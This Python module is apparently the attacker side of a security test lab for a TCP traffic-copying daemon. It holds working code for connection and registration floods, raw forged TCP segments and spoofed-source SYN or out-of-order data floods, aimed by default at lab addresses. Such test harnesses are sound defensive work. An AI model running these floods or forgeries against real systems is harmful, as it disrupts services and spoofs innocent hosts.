"""What a hostile neighbour on the target's network does, for the lab's security tests.
Runs in the lab's attacker namespace (``python -m tcpcopyd.lab.attack ...``) and prints
what happened as key=value pairs. Sends only to the lab's own addresses, bounded in count
and time.

    register HOST PORT KEY[,KEY...]   registers sessions (IP:PORT) like a tcpcopyd would and
                                      reads what interceptd sends back for a while
    flood-routes HOST PORT            registers random sessions as fast as it can
    flood-connections HOST PORT       opens many control connections and holds them
    forge SRC DST SPORT DPORT         sends forged TCP segments (a raw socket)
    flood-spoofed DST DPORT           sends spoofed client segments at a rate: SYNs from
                                      random ports, or data out of order for a few sessions
"""
from __future__ import annotations

import argparse
import os
import random
import select
import socket
import sys
import time

from tcpcopyd.net import packet, wire


def _connect(host: str, port: int) -> socket.socket:
    s = socket.create_connection((host, port), timeout=5)
    s.setblocking(False)
    return s


def _read(socks: list[socket.socket], seconds: float) -> dict[str, int | str]:
    """Read what comes back: reply headers, extension frames, closed connections."""
    buffers = {s.fileno(): bytearray() for s in socks}
    out: dict[str, int | str] = {"headers": 0, "refused": 0, "closed": 0}
    deadline = time.monotonic() + seconds
    live = list(socks)
    while live and time.monotonic() < deadline:
        ready, _, _ = select.select(live, [], [], max(0.0, deadline - time.monotonic()))
        for s in ready:
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if not data:
                out["closed"] = int(out["closed"]) + 1
                live.remove(s)
                continue
            buf = buffers[s.fileno()]
            buf += data
            extensions: list[tuple] = []
            try:
                out["headers"] = int(out["headers"]) + len(wire.split_combined(buf, extensions))
            except wire.ProtocolError:
                buf.clear()
            for ext in extensions:
                if ext.kind == wire.EXT_REFUSED:
                    out["refused"] = int(out["refused"]) + 1
                    out["reason"] = wire.refusal_reason(ext)
    return out


def register(args: argparse.Namespace) -> dict:
    s = _connect(args.host, args.port)
    hello = wire.hello_message(0) if args.hello else b""
    msgs = bytearray(wire.version_message() + hello)
    for key in args.keys.split(","):
        ip, port = key.rsplit(":", 1)
        msgs += wire.client_message(wire.CLIENT_ADD, socket.inet_aton(ip), int(port),
                                    socket.inet_aton(args.target), args.target_port)
    s.setblocking(True)
    try:
        s.sendall(msgs)
    except OSError:
        pass
    s.setblocking(False)
    out = _read([s], args.seconds)
    s.close()
    return out


def flood_routes(args: argparse.Namespace) -> dict:
    rng = random.Random(args.seed)
    # each connection speaks at once, as a tcpcopyd does (interceptd ends silent ones to
    # make room for new connections at its limits)
    socks = []
    for _ in range(args.connections):
        s = _connect(args.host, args.port)
        s.setblocking(True)
        s.sendall(wire.version_message())
        socks.append(s)
    sent = 0
    per = args.registrations // args.connections
    for s in socks:
        batch = bytearray()
        for _ in range(per):
            batch += wire.client_message(wire.CLIENT_ADD, rng.randbytes(4),
                                         rng.randrange(1, 65536), socket.inet_aton(args.target),
                                         80)
            if len(batch) >= 1 << 16:
                s.sendall(batch)
                batch.clear()
        s.sendall(batch)
        sent += per
    out = _read(socks, args.hold)
    for s in socks:
        s.close()
    return {"sent": sent, **out}


def flood_connections(args: argparse.Namespace) -> dict:
    socks, failed = [], 0
    deadline = time.monotonic() + args.seconds
    while len(socks) + failed < args.connections and time.monotonic() < deadline:
        s = socket.socket()
        s.setblocking(False)
        err = s.connect_ex((args.host, args.port))
        if err not in (0, 115):   # EINPROGRESS
            failed += 1
            s.close()
            continue
        socks.append(s)
    time.sleep(args.hold)
    for s in socks:
        s.close()
    return {"opened": len(socks), "failed": failed}


def forge(args: argparse.Namespace) -> dict:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    src, dst = socket.inet_aton(args.src), socket.inet_aton(args.dst)
    rng = random.Random(args.seed)
    sent = 0
    for _ in range(args.count):
        for dport in map(int, args.dports.split(",")):
            seq = rng.randrange(1 << 32) if args.seq is None else args.seq
            pkt = packet.build(src, dst, args.sport, dport, seq, rng.randrange(1 << 32),
                               args.flags, 1000, b"", os.urandom(args.payload))
            raw.sendto(pkt, (args.dst, 0))
            sent += 1
    raw.close()
    return {"sent": sent}


def flood_spoofed(args: argparse.Namespace) -> dict:
    """Spoofed client segments toward the online host, ``rate`` a second for ``seconds``:
    ``syn``: SYNs from random addresses of ``src_net`` and random ports (a new session
    each); ``ooo``: data of ``sessions`` sessions, each segment somewhere in the MiB after
    its first (held out of order, never filled)."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = socket.inet_aton(args.dst)
    net = args.src_net.rsplit(".", 1)[0] + "."
    rng = random.Random(args.seed)
    sessions = [(socket.inet_aton(net + str(rng.randrange(10, 250))),
                 rng.randrange(1024, 65536), rng.randrange(1 << 32))
                for _ in range(args.sessions)]
    payload = os.urandom(args.payload)
    opened: set[int] = set()
    sent = 0
    start = time.monotonic()
    end = start + args.seconds
    while time.monotonic() < end:
        batch_due = start + sent / args.rate
        delay = batch_due - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        for _ in range(100):
            if args.mode == "syn":
                src, sport = socket.inet_aton(net + str(rng.randrange(10, 250))), \
                    rng.randrange(1024, 65536)
                pkt = packet.build(src, dst, sport, args.dport, rng.randrange(1 << 32), 0,
                                   packet.SYN, 64240, packet.syn_options(1460, 7, True, None))
            else:
                i = rng.randrange(len(sessions))
                src, sport, isn = sessions[i]
                # its first segment opens the session; the others land beyond a gap
                offset = rng.randrange(2 * args.payload, 1 << 20) if i in opened else 0
                opened.add(i)
                seq = (isn + offset) & 0xFFFFFFFF
                pkt = packet.build(src, dst, sport, args.dport, seq, 1, packet.ACK, 502, b"",
                                   payload)
            raw.sendto(pkt, (args.dst, 0))
            sent += 1
    raw.close()
    return {"sent": sent, "seconds": round(time.monotonic() - start, 1)}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m tcpcopyd.lab.attack", description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="command", required=True)
    r = sub.add_parser("register")
    r.add_argument("host")
    r.add_argument("port", type=int)
    r.add_argument("keys", help="CLIENT_IP:PORT[,...]")
    r.add_argument("--target", default="198.18.2.2")
    r.add_argument("--target-port", type=int, default=80)
    r.add_argument("--hello", action="store_true", help="offer our extensions")
    r.add_argument("--seconds", type=float, default=3.0)
    f = sub.add_parser("flood-routes")
    f.add_argument("host")
    f.add_argument("port", type=int)
    f.add_argument("--connections", type=int, default=4)
    f.add_argument("--registrations", type=int, default=500_000)
    f.add_argument("--target", default="198.18.2.2")
    f.add_argument("--hold", type=float, default=5.0)
    f.add_argument("--seed", type=int, default=1)
    c = sub.add_parser("flood-connections")
    c.add_argument("host")
    c.add_argument("port", type=int)
    c.add_argument("--connections", type=int, default=2000)
    c.add_argument("--seconds", type=float, default=10.0)
    c.add_argument("--hold", type=float, default=5.0)
    g = sub.add_parser("forge")
    g.add_argument("src")
    g.add_argument("dst")
    g.add_argument("sport", type=int)
    g.add_argument("dports", help="PORT[,PORT...]")
    g.add_argument("--flags", type=int, default=packet.ACK)
    g.add_argument("--seq", type=int)
    g.add_argument("--payload", type=int, default=0)
    g.add_argument("--count", type=int, default=1)
    g.add_argument("--seed", type=int, default=1)
    sp = sub.add_parser("flood-spoofed")
    sp.add_argument("dst")
    sp.add_argument("dport", type=int)
    sp.add_argument("--mode", choices=("syn", "ooo"), default="syn")
    sp.add_argument("--src-net", default="198.18.1.0/24")
    sp.add_argument("--rate", type=int, default=10000)
    sp.add_argument("--seconds", type=float, default=10.0)
    sp.add_argument("--sessions", type=int, default=64)
    sp.add_argument("--payload", type=int, default=1000)
    sp.add_argument("--seed", type=int, default=1)
    args = ap.parse_args(argv)
    run = {"register": register, "flood-routes": flood_routes,
           "flood-connections": flood_connections, "forge": forge,
           "flood-spoofed": flood_spoofed}[args.command]
    out = run(args)
    print(" ".join(f"{k}={v}" for k, v in out.items() if k != "reason"))
    if "reason" in out:
        print(f"reason: {out['reason']}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
